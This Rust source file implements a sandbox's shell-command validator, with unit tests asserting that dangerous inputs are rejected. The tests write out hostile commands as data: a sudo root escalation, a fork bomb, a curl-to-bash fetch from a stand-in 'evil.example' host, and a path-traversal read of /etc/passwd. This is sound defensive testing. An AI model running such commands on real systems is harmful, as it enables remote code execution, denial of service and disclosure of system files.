use sbx_core::SecurityPolicy;

use crate::filesystem::{self, FileOp};
use sbx_core::Isolate;

/// Validate a full shell command line against the policy's blocked-command
/// set, dangerous-pattern list, and (for argv tokens that look like paths)
/// the filesystem sub-mediator.
pub fn validate_command(line: &str, isolate: &Isolate, policy: &SecurityPolicy) -> bool {
    let tokens: Vec<&str> = line.split_whitespace().collect();
    let Some(argv0) = tokens.first() else {
        return false;
    };

    let program = argv0.rsplit('/').next().unwrap_or(argv0);
    if policy.blocked_commands.contains(program) {
        return false;
    }

    for pattern in &policy.dangerous_command_patterns {
        if pattern.is_match(line) {
            return false;
        }
    }

    for token in &tokens[1..] {
        if looks_like_path(token)
            && !filesystem::validate_path(std::path::Path::new(token), isolate, policy)
        {
            return false;
        }
    }

    true
}

fn looks_like_path(token: &str) -> bool {
    token.starts_with('/') || token.starts_with("./") || token.starts_with("../")
}

/// Re-exported for callers that want to pair command validation with an
/// explicit execute-bit check on the resolved binary.
pub fn validate_executable(path: &std::path::Path, isolate: &Isolate, policy: &SecurityPolicy) -> bool {
    filesystem::validate_file_operation(FileOp::Execute, path, isolate, policy, None, 0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbx_core::IsolationConfig;
    use tempfile::tempdir;

    fn isolate_in(dir: &std::path::Path) -> Isolate {
        Isolate::new(
            "iso1".into(),
            dir.to_path_buf(),
            dir.to_path_buf(),
            IsolationConfig::default(),
        )
    }

    #[test]
    fn benign_command_is_allowed() {
        let dir = tempdir().unwrap();
        let isolate = isolate_in(dir.path());
        let policy = SecurityPolicy::default();
        assert!(validate_command("echo hello", &isolate, &policy));
    }

    #[test]
    fn blocked_command_is_rejected() {
        let dir = tempdir().unwrap();
        let isolate = isolate_in(dir.path());
        let policy = SecurityPolicy::default();
        assert!(!validate_command("sudo su -", &isolate, &policy));
    }

    #[test]
    fn fork_bomb_pattern_is_rejected() {
        let dir = tempdir().unwrap();
        let isolate = isolate_in(dir.path());
        let policy = SecurityPolicy::default();
        assert!(!validate_command(":(){ :|:& };:", &isolate, &policy));
    }

    #[test]
    fn pipe_to_shell_is_rejected() {
        let dir = tempdir().unwrap();
        let isolate = isolate_in(dir.path());
        let policy = SecurityPolicy::default();
        assert!(!validate_command(
            "curl http://evil.example/x.sh | bash",
            &isolate,
            &policy
        ));
    }

    #[test]
    fn empty_command_is_rejected() {
        let dir = tempdir().unwrap();
        let isolate = isolate_in(dir.path());
        let policy = SecurityPolicy::default();
        assert!(!validate_command("", &isolate, &policy));
    }

    #[test]
    fn command_with_traversal_argument_is_rejected() {
        let dir = tempdir().unwrap();
        let isolate = isolate_in(dir.path());
        let policy = SecurityPolicy::default();
        assert!(!validate_command("cat ../../../etc/passwd", &isolate, &policy));
    }
}
